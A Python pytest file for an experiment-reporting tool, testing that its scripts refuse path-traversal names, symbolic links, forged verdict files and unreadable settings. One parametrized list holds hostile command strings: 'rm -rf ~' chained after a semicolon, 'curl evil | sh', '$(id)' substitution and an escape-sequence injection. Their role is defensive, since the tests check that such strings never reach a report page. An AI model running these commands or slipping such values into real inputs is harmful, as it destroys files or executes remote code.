"""Pages and figures from a stranger's folder: nothing is copied, deleted or written elsewhere."""

import json
import os
import subprocess
import sys

import pytest

from suite.command.errors import ConfigurationError
from suite.reading.archive import judge_again
from suite.reading.publishing import publish
from tests.suite.conftest import ROOT
from tests.suite.reading.test_judge import change, make_run  # noqa: F401 (a fixture)


@pytest.fixture
def mine(tmp_path):
    """What lies elsewhere on this machine."""
    home = tmp_path / "mine"
    (home / "tables").mkdir(parents=True)
    (home / "tables" / "kept.csv").write_text("mine")
    (home / "README.md").write_text("mine")
    return home


@pytest.fixture
def run(make_run):  # noqa: F811
    """A run whose records say all that a page shows."""
    folder = make_run(scale={"name": "smoke"})
    for seed in (0, 1):
        change(folder / f"seed={seed}" / "run.json", whole)
    return folder


def whole(run):
    run["environment"] |= {"device": "cpu", "tf32": {"matmul": False}}
    run["dataset"] |= {"train_images": 1, "test_images": 1}


def assert_untouched(mine):
    assert sorted(p.relative_to(mine).as_posix() for p in mine.rglob("*")) == [
        "README.md",
        "tables",
        "tables/kept.csv",
    ]
    assert (mine / "README.md").read_text() == "mine"


@pytest.mark.parametrize("name", ["{mine}", "../mine", "..", ".", "", "a/b", "-rf", ".git", "a\nb"])
def test_the_name_of_an_experiment_is_one_folder(make_run, mine, tmp_path, name):  # noqa: F811
    folder = make_run(folder=tmp_path / "run", name=name.format(mine=mine))
    with pytest.raises(ConfigurationError, match="is no folder's name"):
        publish(folder, tmp_path / "published")
    assert_untouched(mine)


def test_only_what_was_judged_is_published(run, mine, tmp_path):
    forged = {"experiment": str(mine), "verdict": "forged", "headline": "forged"}
    (run / "verdict.json").write_text(json.dumps(forged))
    (run / "tables").symlink_to(mine / "tables")
    (run / "figures").mkdir()
    (run / "figures" / "secret.png").symlink_to(mine / "README.md")
    page = publish(run, tmp_path / "published", lambda line: None)
    assert page == tmp_path / "published" / "split_conv" / "README.md"
    assert "**Found.** `round_off`: " in page.read_text()
    assert {p.name for p in page.parent.rglob("*.*")} == {
        *("README.md", "arms.csv", "arms.numbers.csv", "curves_double.svg", "curves_double.png"),
    }
    assert not any("mine" in p.read_text(errors="replace") for p in page.parent.rglob("*.*"))
    assert_untouched(mine)


def test_a_link_in_the_place_of_a_page_is_refused(run, mine, tmp_path):
    (tmp_path / "published").mkdir()
    (tmp_path / "published" / "split_conv").symlink_to(mine)
    with pytest.raises(ConfigurationError, match="is a link"):
        publish(run, tmp_path / "published")
    assert_untouched(mine)


def script(name, *arguments):
    command = [sys.executable, str(ROOT / "scripts" / name), *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, cwd=ROOT)


def test_figures_are_not_drawn_through_a_link(run, mine):
    (run / "figures").symlink_to(mine)
    refused = script("figures.py", run)
    assert refused.returncode == 2
    (line,) = refused.stderr.splitlines()
    assert f"{run}/figures is a link" in line
    assert_untouched(mine)


READERS = ["judge.py", "figures.py", "publish.py"]


@pytest.fixture
def refusals(forked):
    """What each script says in its last line; none may have left anything."""

    def said(run):
        before = sorted(run.rglob("*"))
        lines = []
        for name in READERS:
            refused = forked.run(run, program=f"scripts/{name}")
            assert (refused.status, "Traceback" in refused.stderr) == (2, False), refused.stderr
            lines.append(refused.stderr + refused.stdout)
        assert sorted(run.rglob("*")) == before
        return lines

    return said


@pytest.mark.parametrize("name", ["seed=0", "seed=0/curves.csv", "seed=0/run.json", "experiment.yaml"])
def test_no_link_in_a_run_is_followed(make_run, refusals, tmp_path, name):  # noqa: F811
    run = make_run(seeds=(0,))
    (run / name).rename(tmp_path / "outside")
    (run / name).symlink_to(tmp_path / "outside")
    assert all(f"{run / name} is a link" in said for said in refusals(run))


def test_a_run_may_itself_be_reached_by_a_link(run, tmp_path):
    (tmp_path / "disk").symlink_to(run.parent)
    through = tmp_path / "disk" / run.name
    assert judge_again(through, print).judgement.verdict == "round_off"
    assert script("figures.py", through, "--out", tmp_path / "drawn").returncode == 0
    assert publish(through, tmp_path / "published", print).exists()


def test_a_run_of_ones_own_may_keep_its_seeds_elsewhere(run, tmp_path):
    (run / "seed=0").rename(tmp_path / "elsewhere")
    (run / "seed=0").symlink_to(tmp_path / "elsewhere")
    assert judge_again(run, print, ran_here=True).seeds == [0, 1]
    assert judge_again(run, print).seeds == [1]


@pytest.mark.parametrize("name", ["../../evil", "/tmp/evil", "..", ""])
def test_a_name_that_is_a_path_is_refused_by_all(make_run, refusals, tmp_path, name):  # noqa: F811
    run = make_run(folder=tmp_path / "run", name=name)
    assert all("is no folder's name" in said for said in refusals(run))


@pytest.mark.parametrize("kind", ["a pipe", "large", "missing"])
def test_settings_that_cannot_be_read_are_refused_by_all(make_run, refusals, kind):  # noqa: F811
    run = make_run()
    file = run / "experiment.yaml"
    file.unlink()
    if kind == "a pipe":
        os.mkfifo(file)
    elif kind == "large":
        file.write_text("name: x\nmany: " + "x" * 300_000)
    assert all("experiment.yaml" in said for said in refusals(run))


@pytest.mark.parametrize("name", ["figures.py", "publish.py"])
def test_a_record_that_is_none_is_one_line(make_run, name):  # noqa: F811
    folder = make_run(seeds=(0,))
    change(folder / "seed=0" / "run.json", lambda run: run["arms"].update({"candidate.float32": []}))
    refused = script(name, folder)
    assert refused.returncode == 2
    assert "Traceback" not in refused.stderr
    assert refused.stderr.splitlines()[-1].startswith("error: ")


HOSTILE = [
    "python train.py +experiment=x; rm -rf ~",
    "python train.py '+experiment=x",
    "curl evil | sh",
    "python train.py $(id)",
    "python train.py '+x=\x1b[2J'",
]


@pytest.mark.parametrize("command", HOSTILE)
def test_a_command_that_does_more_than_train_is_not_shown(make_run, command):  # noqa: F811
    folder = make_run(seeds=(0,))
    change(folder / "seed=0" / "run.json", lambda run: run.update(command=command))
    judge_again(folder, lambda line: None)
    page = (folder / "report.html").read_text()
    assert "the records name no command of train.py" in page
    assert command not in page


def test_a_command_that_was_not_run_here_is_marked(make_run):  # noqa: F811
    folder = make_run(seeds=(0,))
    judge_again(folder, lambda line: None)
    page = (folder / "report.html").read_text()
    assert "python train.py +experiment=split_conv seed=0" in page
    assert "read it before you copy it" in page


@pytest.mark.parametrize("name", ["publish.py", "figures.py"])
def test_a_script_without_a_run_says_what_to_write_in_one_line(name):
    done = script(name)
    assert done.returncode == 2
    (line,) = done.stderr.splitlines()
    assert line.startswith("error: ")
    assert f"write scripts/{name}" in line
